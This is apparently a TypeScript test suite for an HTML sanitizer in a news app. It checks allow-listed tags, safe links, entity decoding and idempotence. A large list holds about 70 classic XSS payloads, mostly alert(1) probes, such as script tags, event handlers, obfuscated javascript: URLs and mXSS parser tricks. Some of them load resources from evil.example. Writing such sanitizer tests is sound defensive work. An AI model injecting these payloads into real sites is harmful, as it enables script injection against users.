import fc from "fast-check";
import { Window } from "happy-dom";
import { describe, expect, it } from "vitest";
import { decodeEntities, htmlToText, safeHref, sanitizeHtml } from "./sanitize";

const ALLOWED_TAGS = new Set([
  "p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "strong", "b", "em", "i", "u", "s", "del", "ins", "mark", "small", "sub", "sup",
  "blockquote", "code", "pre", "span", "div", "figure", "figcaption", "ul", "ol", "li", "dl", "dt", "dd", "a", "img", "abbr",
  "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td",
]);
const ALLOWED_ATTRIBUTES = new Set(["href", "title", "src", "alt", "width", "height", "start", "colspan", "rowspan", "target", "rel"]);

const window = new Window();

/** Parses the sanitizer's output as a browser would and lists everything that could run or leave the allow-list. */
function problemsOf(html: string): string[] {
  const container = window.document.createElement("div");
  container.innerHTML = html;
  const problems: string[] = [];
  for (const element of Array.from(container.querySelectorAll("*"))) {
    const tag = element.tagName.toLowerCase();
    if (!ALLOWED_TAGS.has(tag)) problems.push(`element <${tag}>`);
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      if (!ALLOWED_ATTRIBUTES.has(name)) problems.push(`attribute ${name} on <${tag}>`);
      if (name === "href" || name === "src") {
        const value = (attribute.value ?? "").replace(/[\u0000-\u0020]/g, "").toLowerCase();
        if (/^(javascript|vbscript|data|file|blob):/.test(value)) problems.push(`${name}=${attribute.value}`);
        if (name === "src" && !/^\/?api\/news\/image\/\d+$/.test(attribute.value ?? "")) problems.push(`foreign image ${attribute.value}`);
      }
    }
  }
  return problems;
}

/** Classic payloads (OWASP XSS filter evasion cheat sheet, mXSS and parser-differential cases). */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="api/news/image/1" onerror="alert(1)">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#9;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<body onload=alert(1)>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="behavior:url(x.htc)">x</p>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>script>alert(1)<</script>/script>",
  "<!--<script>alert(1)</script>-->",
  "<!-- --!><script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x onerror\t=alert(1)>",
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href=https://ok.example/" onmouseover=alert(1)>x</a>',
  "<a href='https://ok.example' \"onclick=alert(1)\">x</a>",
  "<div id=x name=y class=z>dom clobbering</div>",
  "<img src=api/news/image/1 srcset=javascript:alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<xmp><script>alert(1)</script></xmp>",
  "<textarea><script>alert(1)</script></textarea>",
  "<title><script>alert(1)</script></title>",
  "<template><script>alert(1)</script></template>",
  "<plaintext><script>alert(1)</script>",
  "<table><td background=javascript:alert(1)>x</td></table>",
  "<a href=\"java\u0000script:alert(1)\">x</a>",
  "<a href=\"\u0001javascript:alert(1)\">x</a>",
  "<img src=\"api/news/image/1\"\u0000onerror=alert(1)>",
  "<a href=\"https://ok.example\"\u000conclick=alert(1)>x</a>",
  "<p>unterminated <a href=\"javascript:alert(1)",
  "<p>unterminated <img src=x onerror=alert(1)",
  "</p><script>alert(1)</script><p>",
  "<isindex action=javascript:alert(1) type=image>",
  "<keygen autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>",
];

describe("sanitizeHtml", () => {
  it.each(PAYLOADS)("neutralises %s", (payload) => {
    const clean = sanitizeHtml(payload);
    expect(problemsOf(clean)).toEqual([]);
    expect(clean.toLowerCase()).not.toMatch(/<script|<iframe|<svg|<style|<object|<embed|onerror=|onload=|onclick=|javascript:/);
    // Idempotent: what is stored comes back unchanged when sanitised again on display.
    expect(sanitizeHtml(clean)).toBe(clean);
  });

  it("keeps ordinary formatting, links and own images", () => {
    const input =
      '<h1>Title</h1><p>Hello <strong>bold</strong> &amp; <em>it</em> &mdash; <a href="https://example.com/a?b=1&amp;c=2" title="t">link</a></p>' +
      '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol><img src="api/news/image/12" alt="A chart" width="320">' +
      '<table><tr><th colspan="2">h</th></tr><tr><td>1</td><td>2</td></tr></table><a href="/pages/me/faq">faq</a><a href="mailto:help@example.com">mail</a>';
    expect(sanitizeHtml(input)).toBe(
      '<h2>Title</h2><p>Hello <strong>bold</strong> &amp; <em>it</em> — <a href="https://example.com/a?b=1&amp;c=2" title="t" target="_blank" rel="noopener noreferrer nofollow">link</a></p>' +
        '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol><img src="api/news/image/12" alt="A chart" width="320">' +
        '<table><tr><th colspan="2">h</th></tr><tr><td>1</td><td>2</td></tr></table><a href="/pages/me/faq">faq</a><a href="mailto:help@example.com">mail</a>',
    );
  });

  it("drops dangerous elements with their content and unwraps unknown ones", () => {
    expect(sanitizeHtml("a<script>alert(1)</script>b")).toBe("ab");
    expect(sanitizeHtml("<font color=red>red</font> <center>c</center>")).toBe("red c");
    expect(sanitizeHtml("<svg><text>hidden</text></svg>shown")).toBe("shown");
  });

  it("escapes text so that it stays text", () => {
    expect(sanitizeHtml("1 < 2 & 3 > 2")).toBe("1 &lt; 2 &amp; 3 &gt; 2");
    expect(sanitizeHtml("&lt;script&gt;alert(1)&lt;/script&gt;")).toBe("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(sanitizeHtml('<p title="&quot;><script>">x</p>')).toBe("<p>x</p>");
    expect(sanitizeHtml('<abbr title="&quot;><script>alert(1)</script>">x</abbr>')).toBe('<abbr title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</abbr>');
  });

  it("balances elements: stray end tags are dropped (a stray </p> is an empty paragraph, as browsers read it), open ones closed", () => {
    expect(sanitizeHtml("</div></p>text")).toBe("<p></p>text");
    expect(sanitizeHtml("<div><p>a<strong>b")).toBe("<div><p>a<strong>b</strong></p></div>");
    expect(sanitizeHtml("<ul><li>a</ul>b")).toBe("<ul><li>a</li></ul>b");
    expect(sanitizeHtml("<p>a<br/>b</p><hr />")).toBe("<p>a<br>b</p><hr>");
  });

  it("refuses images from elsewhere (the app loads images from its own origin only)", () => {
    expect(sanitizeHtml('<img src="https://tracker.example/pixel.gif">')).toBe("");
    expect(sanitizeHtml('<img src="data:image/png;base64,AAAA">')).toBe("");
    expect(sanitizeHtml('<img src="/api/news/image/7">')).toBe('<img src="/api/news/image/7">');
  });

  it("is safe and idempotent on random mixtures of dangerous fragments", () => {
    const fragments = fc.constantFrom(
      "<", ">", "</", "/", "=", '"', "'", "`", " ", "\t", "\n", "\u0000", "&", "#", ";", ":", "&#x3C;", "&lt;", "&#106;", "&colon;",
      "<!--", "-->", "<!", "<?", "]]>", "script", "img", "a", "p", "svg", "style", "iframe", "math", "noscript", "textarea",
      "href", "src", "onerror", "onload", "style", "javascript", "alert(1)", "api/news/image/1", "https://x.example",
      "<a href=", "<img src=", "<p>", "</p>", "<script>", "</script>", "<svg>", "</svg>", "<style>", "</style>", "<div>",
    );
    fc.assert(
      fc.property(fc.array(fragments, { maxLength: 40 }), (parts) => {
        const clean = sanitizeHtml(parts.join(""));
        expect(problemsOf(clean)).toEqual([]);
        expect(sanitizeHtml(clean)).toBe(clean);
      }),
      { numRuns: 2000 },
    );
  });
});

describe("safeHref", () => {
  it("allows web, mail, telephone and site paths only", () => {
    expect(safeHref("https://example.com")).toBe("https://example.com");
    expect(safeHref("http://example.com")).toBe("http://example.com");
    expect(safeHref("mailto:a@b.c")).toBe("mailto:a@b.c");
    expect(safeHref("tel:+123")).toBe("tel:+123");
    expect(safeHref("#/pages/me/faq")).toBe("#/pages/me/faq");
    expect(safeHref("  https://example.com/a b  ")).toBe("https://example.com/a%20b");
    for (const bad of ["javascript:alert(1)", "java\nscript:x", "data:text/html,x", "//evil", "/\\evil", "foo:bar", " \u0001javascript:x", ""]) {
      expect(safeHref(bad), bad).toBeNull();
    }
  });
});

describe("entities and text", () => {
  it("decodes numeric and named references, the whole table (not a copy of 90 entries)", () => {
    expect(decodeEntities("&#106;&#x61;&amp;&lt;&nbsp;&unknown;&#0;&#xD800;&#x110000;")).toBe("ja&<\u00a0&unknown;\ufffd\ufffd\ufffd");
    expect(decodeEntities("&alpha;&hearts;&rArr;&NotEqualTilde;")).toBe("α♥⇒≂̸");
    // Named references count with their semicolon only.
    expect(decodeEntities("&amp &copy")).toBe("&amp &copy");
  });

  it("turns HTML into plain text for summaries", () => {
    expect(htmlToText("<h2>Title</h2><p>One &amp; <b>two</b></p><script>x</script><ul><li>a</li><li>b</li></ul>")).toBe("Title One & two a b");
  });
});
